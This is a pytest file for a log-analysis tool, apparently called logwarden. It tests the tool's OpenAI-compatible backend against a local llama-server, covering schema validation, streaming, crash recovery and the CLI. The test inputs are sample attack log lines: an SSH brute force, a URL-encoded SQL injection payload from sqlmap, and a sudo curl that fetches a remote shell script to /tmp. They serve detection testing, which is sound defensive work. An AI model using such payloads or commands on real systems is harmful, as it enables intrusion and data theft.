"""The OpenAI backend against a REAL OpenAI-compatible server: llama.cpp's llama-server (the
`xllamacpp` wheel) serving the embedded Qwen2.5-Coder 0.5B GGUF on a loopback port.

Proves: schema-constrained answers that validate as `LLMAssessment`, SSE streaming with the same
stats as the local engine, the server's tokenizer and prefix cache in use, a server killed
mid-run (results kept, failures marked, nothing lost) and restarted (the run finishes), and the
CLI's `analyze` / `triage` through the server. Needs `pip install xllamacpp` (prebuilt CPU wheel).
"""

from __future__ import annotations

import json
import threading
import time
from pathlib import Path

import pytest
import xllamacpp  # noqa: F401  -- fail loudly, not skip: `pip install xllamacpp` is part of test set-up
from _server_helpers import LlamaServer, embedded_gguf, free_port
from click.testing import CliRunner

from logwarden.app.config import Settings
from logwarden.cli.main import main as cli
from logwarden.engine.api import Request
from logwarden.engine.openai_backend import OpenAIEngine
from logwarden.prompts import system_prompt, triage_prompt, user_prompt
from logwarden.schemas import LLMAssessment, assessment_json_schema

pytestmark = pytest.mark.model

SCHEMA = assessment_json_schema()
# llama-server lets JSON whitespace vary (its GBNF ignores llguidance's x-guidance), so the 0.5B
# pretty-prints and its answers run 240-320 tokens: at the app's cap one in four is sometimes cut.
# That a cut answer is marked is test_cli_analyze_through_the_server_stores_llm_records' job; here
# twice the cap lets every answer finish, so each one's validity is what is tested.
APP_CAP = Settings.model_fields["max_new_tokens"].default
ANSWER_TOKENS = 2 * APP_CAP
SNIPPETS = [
    "sshd[2211]: Failed password for root from 203.0.113.50 port 51022 ssh2 (x240 in 3 min)\n"
    "sshd[2299]: Accepted password for root from 203.0.113.50 port 51990 ssh2",
    '198.51.100.7 - - [30/Nov/2026:10:00:01 +0000] "GET /index.php?id=1%27%20UNION%20SELECT%20password'
    '%20FROM%20users-- HTTP/1.1" 500 312 "-" "sqlmap/1.7"',
    "sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/curl http://203.0.113.9/x.sh -o /tmp/x.sh",
    "CRON[4411]: (root) CMD (run-parts /etc/cron.hourly)",
]


def analyst_requests(snippets: list[str]) -> list[Request]:
    return [Request(system=system_prompt(), user=user_prompt(s)) for s in snippets]


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> LlamaServer:
    log = tmp_path_factory.mktemp("llama") / "server.log"
    with LlamaServer(embedded_gguf(), parallel=4, log=log) as running:
        yield running


def assert_valid_or_marked(generations) -> tuple[int, int]:
    """Every result either validates or is an error with no text. Returns (valid, failed)."""
    valid = failed = 0
    for g in generations:
        if g.error is None:
            LLMAssessment.model_validate_json(g.text)
            valid += 1
        else:
            assert g.text == "" and not g.finished
            failed += 1
    return valid, failed


def test_generate_answers_validate_against_the_schema(server: LlamaServer):
    with OpenAIEngine([server.url], model="embedded", timeout_s=600, concurrency=4) as engine:
        generations = engine.generate(analyst_requests(SNIPPETS), schema=SCHEMA, max_new_tokens=ANSWER_TOKENS)
        endpoint = engine.describe()["endpoints"][0]
    assert [g.error for g in generations] == [None] * len(SNIPPETS)
    assert all(g.finished for g in generations)
    assert assert_valid_or_marked(generations) == (len(SNIPPETS), 0)
    for g in generations:
        assert g.stats.prompt_tokens > 100 and g.stats.new_tokens > 10
        assert 0 < g.stats.ttft_s < g.stats.total_s and g.stats.tokens_per_s > 0
    assert endpoint["response_format"] == "json_schema" and endpoint["response_format_confirmed"]


def test_stream_pieces_make_the_answer_and_reuse_the_cached_system_prefix(server: LlamaServer):
    request = Request(system=system_prompt(), user=triage_prompt(SNIPPETS[0]))
    with OpenAIEngine([server.url], model="embedded", timeout_s=600) as engine:
        engine.generate([request], schema=SCHEMA, max_new_tokens=ANSWER_TOKENS)  # warms a slot with the prefix
        text_stream = engine.stream(request, schema=SCHEMA, max_new_tokens=ANSWER_TOKENS)
        pieces = list(text_stream)
        system_tokens = engine.count_tokens(system_prompt())
    generation = text_stream.generation
    assert len(pieces) > 10 and "".join(pieces) == generation.text
    LLMAssessment.model_validate_json(generation.text)
    assert generation.stats.new_tokens >= len(pieces) - 1
    assert generation.stats.cached_prefix_tokens >= system_tokens  # the server reused the prefix KV


def test_count_tokens_is_the_servers_tokenizer(server: LlamaServer):
    with OpenAIEngine([server.url], model="embedded", timeout_s=600) as engine:
        assert engine.count_tokens("hello world") == 2  # Qwen BPE: "hello", " world"
        assert engine.count_tokens("x" * 400) < 100  # not the 4-chars-per-token estimate


def test_server_killed_mid_run_keeps_results_marks_failures_then_recovers(tmp_path: Path):
    with LlamaServer(embedded_gguf(), parallel=2, log=tmp_path / "server.log") as server:
        engine = OpenAIEngine([server.url], model="embedded", timeout_s=600, concurrency=2, max_retries=1,
                              backoff_base_s=0.2, breaker_threshold=2, breaker_cooldown_s=0.5)
        requests = analyst_requests(SNIPPETS)  # two answered, then the crash takes the two in flight
        results: list = []
        run = threading.Thread(target=lambda: results.extend(
            engine.generate(requests, schema=SCHEMA, max_new_tokens=ANSWER_TOKENS)))
        run.start()
        _wait_until(lambda: engine.pool.endpoints[0].succeeded >= 2, timeout_s=300)
        server.kill()  # SIGKILL: a crash, not a graceful shutdown
        run.join(timeout=300)
        assert len(results) == len(requests)  # nothing lost, nothing raised
        valid, failed = assert_valid_or_marked(results)
        assert valid >= 2 and failed >= 1
        server.start()  # same port
        time.sleep(0.6)  # the breaker's cool-down: the next request is its half-open probe
        failed_again = [r for r, g in zip(requests, results) if g.error]
        retried = engine.generate(failed_again, schema=SCHEMA, max_new_tokens=ANSWER_TOKENS)
        assert assert_valid_or_marked(retried) == (len(failed_again), 0)
        assert engine.describe()["endpoints"][0]["breaker"] == "closed"
        engine.close()


def test_run_rides_out_a_restart_within_its_retry_budget(tmp_path: Path):
    with LlamaServer(embedded_gguf(), parallel=2, log=tmp_path / "server.log") as server:
        # generous back-off (≥ ~10 s expected in total) so a ~3 s outage is ridden out
        engine = OpenAIEngine([server.url], model="embedded", timeout_s=600, concurrency=2, max_retries=10,
                              backoff_base_s=1.0, backoff_cap_s=3.0, breaker_threshold=2,
                              breaker_cooldown_s=0.5)
        server.kill()
        results: list = []
        run = threading.Thread(target=lambda: results.extend(
            engine.generate(analyst_requests(SNIPPETS[:2]), schema=SCHEMA, max_new_tokens=ANSWER_TOKENS)))
        run.start()
        time.sleep(1.0)
        server.start()
        run.join(timeout=300)
        assert assert_valid_or_marked(results) == (2, 0)
        assert engine.describe()["endpoints"][0]["failed"] >= 2  # it really was down for a while
        engine.close()


# ---- the CLI through the server -----------------------------------------------------------------

def brute_force_log(path: Path) -> Path:
    lines = [f"Nov 30 10:0{i // 6}:{i % 6 * 9:02d} web1 sshd[{3000 + i}]: Failed password for invalid user "
             f"admin{i % 3} from 203.0.113.77 port {40000 + i} ssh2" for i in range(24)]
    lines.append("Nov 30 10:04:30 web1 sshd[3100]: Accepted password for admin1 from 203.0.113.77 port 41000 ssh2")
    path.write_text("\n".join(lines) + "\n")
    return path


def openai_args(url: str) -> list[str]:
    return ["--backend", "openai", "--base-url", url, "--model", "embedded"]


def test_cli_analyze_through_the_server_stores_llm_records(server: LlamaServer, tmp_path: Path):
    log = brute_force_log(tmp_path / "auth.log")
    db = f"sqlite:///{tmp_path / 'lw.db'}"
    result = CliRunner().invoke(cli, ["analyze", str(log), "--llm-policy", "all", "--db", db, "--json",
                                      *openai_args(server.url)])
    report = json.loads(result.stdout[result.stdout.index("{"):])
    metrics = report["metrics"]
    assert result.exit_code == (1 if metrics["llm_failures"] else 0), result.output
    assert metrics["windows_llm"] >= 1 and metrics["reviews_pending"] == 0
    assert metrics["new_tokens"] > 0 and metrics["prompt_tokens"] > 0  # the server answered, through the queue
    records = report["records"]
    assert any(r["category"] == "brute_force" for r in records)
    # Whether the 0.5B model's answer finishes within the app's token budget, and whether its finding
    # matches the rule's group, is the model's call: which slot's cached prefix a prompt lands on changes
    # the server's numerics, and the same prompt finished in one run and ran on in the next. What the
    # plumbing owes: a cut answer is marked on its records as the model's, never a transport failure.
    errors = {r["llm_error"] for r in records if r["llm_error"]}
    assert errors <= {"model output did not finish within the token budget"}


def test_cli_triage_streams_through_the_server(server: LlamaServer, tmp_path: Path):
    result = CliRunner().invoke(cli, ["triage", SNIPPETS[2], "--no-store", "--json", *openai_args(server.url)])
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout[result.stdout.index("{"):])
    assert report["assessment"] is not None and report["stats"]["new_tokens"] > 0
    # whether the model calls the download a finding is its call; what becomes of a finding is not: a
    # record, or a reason said (below the model-only floor, or set aside as a category the line cannot be)
    if report["assessment"]["findings"]:
        assert (any("llm" in r["decided_by"] for r in report["records"])
                or "no record" in report["why"] or report["model_unsure"]), report


def test_cli_analyze_with_every_server_down_is_rules_only_and_marked(tmp_path: Path):
    log = brute_force_log(tmp_path / "auth.log")
    db = f"sqlite:///{tmp_path / 'lw.db'}"
    dead = f"http://127.0.0.1:{free_port()}/v1"
    result = CliRunner().invoke(cli, ["analyze", str(log), "--llm-policy", "all", "--db", db, "--json",
                                      *openai_args(dead)])
    assert result.exit_code == 1  # the run finishes, and says the model failed
    report = json.loads(result.stdout[result.stdout.index("{"):])
    assert report["metrics"]["llm_failures"] >= 1 and report["metrics"]["lines"] == 25
    records = report["records"]
    assert records and all(r["decided_by"] == "rules" and r["llm_error"] for r in records)


def _wait_until(condition, *, timeout_s: float) -> None:
    deadline = time.monotonic() + timeout_s
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"condition not met within {timeout_s} s")
        time.sleep(0.05)
